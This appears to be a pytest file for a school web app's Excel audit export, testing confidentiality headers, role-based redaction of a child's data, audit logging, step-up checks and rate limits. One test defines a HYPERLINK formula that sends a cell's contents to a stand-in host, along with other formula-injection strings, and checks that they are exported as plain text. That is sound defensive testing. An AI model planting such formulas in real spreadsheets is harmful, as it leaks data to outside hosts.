"""The audit as an Excel sheet: marked, harmless, confirmed anew, counted, and in the audit itself."""

import io

import openpyxl
import pytest

from webapp.access.audit import note
from webapp.models import Account, AuditEvent, LoginSession, Student
from webapp.queries.audit_chain import verify
from webapp.routes.desk import audit

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def opened(answer):
    assert answer.status_code == 200, answer.text[:300]
    return openpyxl.load_workbook(io.BytesIO(answer.data)).active


def test_the_sheet_holds_what_is_shown_under_its_marking(as_, cast, house):
    with house() as session:
        session.get_one(Account, cast.li).phone = "13911112222"
    sheet = opened(as_("sun").post("/desk/audit/exports", data={"what": "accounts"}))
    assert sheet["A1"].value.startswith("内部资料 注意保密 · 孙管理员")
    assert sheet.print_title_rows == "$1:$2"
    assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert all(len(row) == 6 for row in rows)
    assert any("13911112222" in (row[4] or "") for row in rows)


def test_formulas_links_and_numbers_stay_text(as_, cast, house):
    hostile = [FORMULA, "+1+1", "-2", "@SUM(A1)", "http://evil.example", "\x07bell", "1e5"]
    with house() as session:
        for text in hostile:
            note("something.hostile", session.get_one(Account, cast.li), word=text)
            session.get_one(Account, cast.li).name = text
            session.flush()
    sheet = opened(as_("sun").post("/desk/audit/exports"))
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert any(FORMULA in cell.value for cell in cells)


def test_an_administrators_sheet_holds_nothing_of_a_child_and_a_principals_does(as_, cast, house):
    with house() as session:
        session.get_one(Student, cast.yan).address = "青山镇桃花村八组"
    told = {
        login: str([row for row in opened(as_(login).post("/desk/audit/exports")).iter_rows(values_only=True)])
        for login in ("xu", "liu", "he")
    }
    assert "桃花村" in told["liu"]
    assert "周小燕" in told["liu"]
    assert "桃花村" not in told["xu"]
    assert "周小燕" not in told["xu"]
    assert "桃花村" not in told["he"]
    assert "王秀英" not in told["he"]


def test_an_export_is_in_the_audit_with_what_was_looked_for(as_, cast, house):
    as_("liu").post("/desk/audit/exports", data={"who": "wang", "what": "looks", "account": "no id"})
    with house() as session:
        row = session.query(AuditEvent).filter_by(action="audit.exported").one()
        assert row.details == {"rows": 0, "filter": {"who": "wang", "what": "looks"}}
        assert row.account_id == cast.liu
        assert verify().why is None


def test_an_export_asks_who_it_is(as_, house):
    sun = as_("sun")
    with house() as session:
        for row in session.query(LoginSession).filter_by(account_id=sun.account):
            row.stepped_up_at = None
    answer = sun.post("/desk/audit/exports")
    assert answer.status_code == 403
    assert "step-up" in answer.text
    with house() as session:
        assert session.query(AuditEvent).filter_by(action="audit.exported").all() == []


def test_too_many_exports_must_wait(as_):
    liu = as_("liu")
    answers = [liu.post("/desk/audit/exports", data={"what": "exports"}).status_code for _ in range(21)]
    assert answers == [200] * 20 + [429]


@pytest.mark.parametrize("rows", [1])
def test_a_sheet_ends_at_its_most(as_, cast, house, monkeypatch, rows):
    monkeypatch.setattr(audit, "MOST", rows)
    assert opened(as_("sun").post("/desk/audit/exports")).max_row == rows + 2
